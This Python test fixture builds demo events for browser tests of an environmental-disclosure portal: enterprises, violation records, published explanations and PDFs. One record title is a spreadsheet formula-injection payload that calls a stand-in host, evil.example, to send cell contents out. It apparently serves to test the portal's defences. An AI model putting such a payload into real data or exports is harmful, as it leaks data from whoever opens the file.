"""Realistic demo events for the browser tests: enterprises in Shaanxi and elsewhere, records of several
types in every public status, a published explanation with its signed PDF, a supporting document."""

import hashlib
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID, uuid4

from bluemap_portal.clock import china_today
from bluemap_shared.events.catalog import (
    DocumentPublished,
    EnterpriseRegistered,
    EnterpriseSnapshot,
    ExplanationPublished,
    MonitoringDetails,
    PdfRendered,
    RecordPublished,
    RecordStatusChanged,
)
from bluemap_shared.events.envelope import Envelope, IntegrationEvent

TENANT = "ipe"
HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
SUPERVISION_TITLE = "关于对强化监督定点帮扶发现问题进行督办的函(西安)"


@dataclass
class Demo:
    """What the tests look for in the demo data."""

    events: list[IntegrationEvent] = field(default_factory=list)
    enterprises: dict[str, EnterpriseSnapshot] = field(default_factory=dict)
    verification_code: str = ""
    document_number: str = ""
    signed_document_id: UUID = field(default_factory=uuid4)
    permit_document_id: UUID = field(default_factory=uuid4)
    hyperlink_record_id: UUID = field(default_factory=uuid4)

    def add(self, *events: IntegrationEvent) -> None:
        self.events.extend(events)

    def envelopes(self) -> list[Envelope[Any]]:
        now = datetime.now(UTC)
        return [
            Envelope(data=e, tenant_id=TENANT, source="/bluemap/demo", subject=e.subject(), time=now)
            for e in self.events
        ]


def company(uscc: str, name: str, region: str, name_en: str | None = None) -> EnterpriseSnapshot:
    return EnterpriseSnapshot(enterprise_id=uuid4(), uscc=uscc, name=name, name_en=name_en, region_code=region)


def record(
    enterprise: EnterpriseSnapshot, record_type: str, year: int, title: str, authority: str, **extra: Any
) -> RecordPublished:
    issued = extra.pop("issued_on", date(year, 3, 9))
    explainable = extra.pop("explainable", True)
    fields: dict[str, Any] = {
        "record_id": extra.pop("record_id", uuid4()),
        "enterprise": enterprise,
        "record_type": record_type,
        "explainable": explainable,
        "year": year,
        "source_title": title,
        "issuing_authority": authority,
        "issued_on": issued,
        "published_at": datetime.now(UTC) - timedelta(days=1),
        "explanation_due_on": extra.pop("explanation_due_on", issued + timedelta(days=14)) if explainable else None,
    }
    return RecordPublished.model_validate(fields | extra)


def status(item: RecordPublished, new_status: str) -> RecordStatusChanged:
    return RecordStatusChanged(
        record_id=item.record_id,
        enterprise_id=item.enterprise.enterprise_id,
        previous_status="awaiting_explanation",
        status=new_status,
        changed_at=datetime.now(UTC),
    )


def demo() -> Demo:
    """Nine enterprises (six in Xi'an, so its search has two pages of five) and their public story."""
    data = Demo()
    today = china_today()
    yongan = company(
        "91610100992777567D", "陕西永安兴庆门业有限公司", "610100", "Shaanxi Yong'an Xingqing Door Industry Co., Ltd."
    )
    gufen = company("91610100829173368A", "西安永安兴庆门业股份有限公司", "610113")
    weinan = company("91610500MA6Y2K3L4P", "渭南兴庆水泥有限公司", "610502", "Weinan Xingqing Cement Co., Ltd.")
    baoji = company("91610300MA6X1Q2W3E", "宝鸡秦岭化工有限公司", "610302")
    beijing = company("91110108MA01ABCD2F", "北京京西热电有限公司", "110108", "Beijing Jingxi Thermal Power Co., Ltd.")
    suzhou = company("91320594MA1XYZ1234", "苏州工业园区华芯电子有限公司", "320594")
    xian_more = [
        company("91610131MA6TU0001A", "西安高新区康泰制药有限公司", "610131"),
        company("91610112MA6TU0002B", "西安经开区汽车零部件有限公司", "610112"),
        company("91610116MA6TU0003C", "西安长安区建材有限公司", "610116"),
        company("91610104MA6TU0004D", "西安莲湖区印刷有限公司", "610104"),
    ]
    every = [yongan, gufen, weinan, baoji, beijing, suzhou, *xian_more]
    data.enterprises = {"yongan": yongan, "gufen": gufen, "weinan": weinan, "baoji": baoji, "beijing": beijing}
    data.add(*(EnterpriseRegistered(enterprise=c, industry="制造业") for c in every))

    explained = record(
        yongan,
        "environmental_supervision",
        2020,
        SUPERVISION_TITLE,
        "中华人民共和国生态环境部",
        issued_on=date(2020, 2, 20),
        source_url="https://www.mee.gov.cn/",
        summary="强化监督定点帮扶发现：喷漆房废气收集处理设施未正常运行。",
    )
    overdue = record(
        yongan,
        "environmental_supervision",
        2020,
        "陕西永安兴庆门业有限公司",
        "信用中国(陕西)",
        issued_on=date(2020, 3, 9),
        summary="行政处罚：未按规定运行大气污染防治设施，罚款人民币十万元。",
    )
    awaiting = record(
        yongan,
        "rectification_order",
        today.year,
        "责令改正违法行为决定书（西环责改〔2025〕12号）",
        "西安市生态环境局",
        issued_on=today - timedelta(days=3),
        explanation_due_on=today + timedelta(days=11),
    )
    under_review = record(gufen, "safety_supervision", 2025, "西安市安全生产执法检查通报", "西安市应急管理局")
    emissions = record(
        weinan, "emissions_data", 2024, "2024年重点排污单位排放数据", "渭南市生态环境局", explainable=False
    )
    monitored = record(
        weinan,
        "automated_monitoring",
        2024,
        "自动监测数据超标记录（颗粒物）",
        "渭南市生态环境局",
        explanation_due_on=today + timedelta(days=5),
        issued_on=today - timedelta(days=9),
    )
    hostile = record(baoji, "accident", 2023, HYPERLINK_TITLE, "宝鸡市应急管理局", record_id=data.hyperlink_record_id)
    resolved = record(baoji, "cleaner_production_audit", 2022, "宝鸡市清洁生产审核企业名单", "宝鸡市发展和改革委员会")
    key_entity = record(
        beijing, "key_monitoring_entity", 2024, "北京市重点排污单位名录", "北京市生态环境局", explainable=False
    )
    restricted = record(suzhou, "production_restriction", 2021, "苏州市重污染天气停限产企业名单", "苏州市生态环境局")
    others = [
        record(
            c, "environmental_credit_rating", 2023, f"西安市企业环境信用评价结果公告（{c.name}）", "西安市生态环境局"
        )
        for c in xian_more
    ]
    data.add(
        explained, overdue, awaiting, under_review, emissions, monitored, hostile, resolved, key_entity, restricted
    )
    data.add(*others)
    data.add(status(under_review, "explanation_submitted"), status(resolved, "resolved"))

    submission = uuid4()
    code = hashlib.sha256(b"bluemap demo public explanation").hexdigest()
    data.verification_code = code
    data.document_number = "BM-2020-000017"
    published_at = datetime.now(UTC) - timedelta(hours=2)
    data.add(
        ExplanationPublished(
            explanation_id=uuid4(),
            submission_id=submission,
            record_id=explained.record_id,
            enterprise_id=yongan.enterprise_id,
            violation="喷漆房废气收集处理设施因风机故障停运约三小时，期间废气未经处理排放。",
            reasons="设备巡检制度未落实，风机故障未能及时发现和报告。",
            corrective_actions="已更换风机并加装运行状态在线监控；修订巡检制度，每班巡检两次并记录。",
            reviewed_by="reviewer@ipe.example.org",
            published_at=published_at,
        ),
        PdfRendered(
            document_id=uuid4(),
            submission_id=submission,
            enterprise_id=yongan.enterprise_id,
            language="zh",
            document_number=data.document_number,
            verification_code=code,
            filename="公开说明-BM-2020-000017.pdf",
            size=48_213,
            sha256=code,
            download_url="https://documents.example.org/capability/never-public",
            download_expires_at=datetime.now(UTC) + timedelta(days=7),
            rendered_at=published_at - timedelta(days=2),
        ),
        DocumentPublished(
            document_id=data.signed_document_id,
            enterprise_id=yongan.enterprise_id,
            kind="signed-explanation",
            record_ids=[explained.record_id],
            submission_id=submission,
            filename="签章版公开说明.pdf",
            content_type="application/pdf",
            size=512_000,
            sha256=hashlib.sha256(b"signed").hexdigest(),
            verification_code=code,
            reviewed_by="reviewer@ipe.example.org",
            published_at=published_at,
        ),
        DocumentPublished(
            document_id=data.permit_document_id,
            enterprise_id=yongan.enterprise_id,
            kind="supporting",
            category="discharge_permit",
            record_ids=[explained.record_id],
            filename="排污许可证（正本）.pdf",
            content_type="application/pdf",
            size=1_843_200,
            sha256=hashlib.sha256(b"permit").hexdigest(),
            reviewed_by="reviewer@ipe.example.org",
            published_at=published_at - timedelta(hours=1),
        ),
        status(explained, "explained"),
        ExplanationPublished(
            explanation_id=uuid4(),
            submission_id=uuid4(),
            record_id=monitored.record_id,
            enterprise_id=weinan.enterprise_id,
            violation="2024年5月1日0时至1时，1号窑尾颗粒物小时均值超标。",
            reasons="布袋除尘器滤袋破损。",
            corrective_actions="已更换全部滤袋，并委托第三方开展比对监测。",
            monitoring=MonitoringDetails(
                pollutant="颗粒物",
                measured_value="32.5",
                limit_value="20",
                unit="mg/m³",
                period_start=datetime(2024, 4, 30, 16, 0, tzinfo=UTC),
                period_end=datetime(2024, 4, 30, 17, 0, tzinfo=UTC),
            ),
            reviewed_by="reviewer@ipe.example.org",
            published_at=published_at - timedelta(days=1),
        ),
        status(monitored, "explained"),
    )
    return data
